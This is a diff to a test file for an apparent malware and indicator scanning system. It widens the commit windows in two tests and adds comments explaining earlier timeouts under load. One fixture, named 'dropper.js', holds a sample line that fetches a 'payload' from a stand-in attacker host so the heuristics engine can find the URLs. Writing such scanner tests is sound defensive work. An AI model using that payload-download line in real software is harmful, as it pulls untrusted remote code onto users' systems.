@@ -38,7 +38,9 @@ async function signed (kind: 'url' | 'domain', raw: string, context = 'reported 
 }
 
 tap.test('an indicator job reaches a quorum report on every member, like a file', async (t) => {
-  const net = await memoryCoordinators(t, { engines: () => [ipHostUrlEngine()], parameters: { quorumFaultDivisor: 3n } })
+  // a wide commit window: at load 18 the job failed its 1.5 s one and the report was a retry's; members reveal as
+  // soon as all have committed, so it costs nothing
+  const net = await memoryCoordinators(t, { engines: () => [ipHostUrlEngine()], parameters: { quorumFaultDivisor: 3n, commitWindowMs: 10_000n } })
   const submission = await signed('url', 'HTTP://93.184.216.34/Login#x')
   const first = await net.coordinator(0).submitIndicator(submission)
   t.equal(first.subject, 'http://93.184.216.34/Login')
@@ -88,7 +90,9 @@ tap.test('scanning a file relates it to the URLs and domains the heuristics foun
   const heuristics = createHeuristicsEngine({ timeoutMs: 20_000, concurrency: 1 })
   await heuristics.start()
   t.teardown(async () => { await heuristics.stop() })
-  const net = await memoryCoordinators(t, { engines: () => [heuristics, ipHostUrlEngine()] })
+  // the fixture's 500 ms scan budget was too short for the heuristics' worker at load 12 (the relations never
+  // came); no engine here waits for the budget's end, so a long one costs nothing
+  const net = await memoryCoordinators(t, { engines: () => [heuristics, ipHostUrlEngine()], parameters: { commitWindowMs: 10_000n } })
   const script = 'fetch("https://Evil.Example.com/payload?id=1"); var x = "http://cdn.example.org/a.js"; // not-a-url://x'
   const { sha256 } = await net.coordinator(0).submitFile(sourceOf(script), { filename: 'dropper.js' })
   const repos = net.repos[1] as Repositories
